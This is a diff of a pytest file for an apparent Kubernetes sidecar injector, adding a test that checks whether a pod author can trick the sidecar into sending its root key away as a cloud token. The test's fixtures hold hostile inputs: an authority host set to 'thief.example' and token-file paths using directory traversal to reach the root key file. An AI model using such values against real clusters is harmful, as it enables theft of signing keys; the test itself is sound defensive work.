@@ -44,6 +44,9 @@ CLOUDS = {
 """What the webhooks of the clouds give to every container, as their documentation has it."""
 
 
+CLOUD_TOKEN: Json = {"serviceAccountToken": {"audience": "sts.example", "path": "token"}}
+
+
 def needing(*kinds: str, **more: str) -> InjectorSettings:
     """Return the settings of an operator whose keyring has roots of these kinds."""
     return replace(STRICT, root=RootNeeds(kinds, **more))
@@ -52,7 +55,7 @@ def needing(*kinds: str, **more: str) -> InjectorSettings:
 def identity_webhook(given: Json) -> Call:
     """Return a cloud's webhook: it gives variables and a volume with a token to containers."""
     file = next(value for name, value in given.items() if name.endswith("FILE"))
-    volume = {"name": "cloud-token", "projected": {"sources": []}}
+    volume = {"name": "cloud-token", "projected": {"sources": [CLOUD_TOKEN]}}
     mount = {"name": "cloud-token", "mountPath": file.rpartition("/")[0], "readOnly": True}
 
     def call(asked: Json) -> Json:
@@ -141,6 +144,49 @@ def test_nothing_else_in_the_container_of_a_pretended_sidecar_is_kept() -> None:
     assert container(injected(pod, settings), "sealyard") == container(
         injected(a_pod(), settings), "sealyard"
     )
+
+
+KEY_FILE = "/etc/sealyard/keys/root.key"
+FOLDER = "/var/run/secrets/azure/tokens"
+LINKED = {"name": "mine", "emptyDir": {}}  # a container of the author's makes a link in it
+MIXED = {
+    "name": "mine",
+    "projected": {"sources": [CLOUD_TOKEN, {"configMap": {"name": "mine"}}]},
+}
+
+
+@pytest.mark.parametrize(
+    ("file", "volume", "mounts"),
+    [
+        (KEY_FILE, "sealyard-keys", FOLDER),
+        (KEY_FILE, "cloud-token", FOLDER),
+        (f"{FOLDER}/../../../../..{KEY_FILE}", "cloud-token", FOLDER),
+        (f"{FOLDER}/root.key", "sealyard-keys", FOLDER),
+        (f"{FOLDER}/root.key", "mine", FOLDER),
+        (f"{FOLDER}/token", "nowhere", FOLDER),
+        (f"{FOLDER}/token", "cloud-token", "/etc/sealyard"),
+    ],
+)
+@pytest.mark.parametrize("mine", [LINKED, MIXED], ids=["emptyDir", "mixed"])
+def test_an_author_cannot_have_the_sidecar_send_its_keys_away_as_a_token(
+    file: str, volume: str, mounts: str, mine: Json
+) -> None:
+    pretended = {
+        "name": "sealyard",
+        "image": "m",
+        "env": [
+            {"name": "AZURE_AUTHORITY_HOST", "value": "https://thief.example/"},
+            {"name": "AZURE_FEDERATED_TOKEN_FILE", "value": file},
+        ],
+        "volumeMounts": [{"name": volume, "mountPath": mounts}],
+    }
+    given = {"name": "cloud-token", "projected": {"sources": [CLOUD_TOKEN]}}
+    pod = a_pod(initContainers=[pretended], volumes=[mine, given])
+    sidecar = container(injected(pod, needing("azure-kv", "file")), "sealyard")
+
+    assert "AZURE_FEDERATED_TOKEN_FILE" not in {one["name"] for one in sidecar["env"]}
+    assert mounted(sidecar).get(FOLDER, "cloud-token") == "cloud-token"
+    assert "/etc/sealyard" not in mounted(sidecar)
 
 
 @pytest.mark.parametrize("given", [AWS, AZURE])
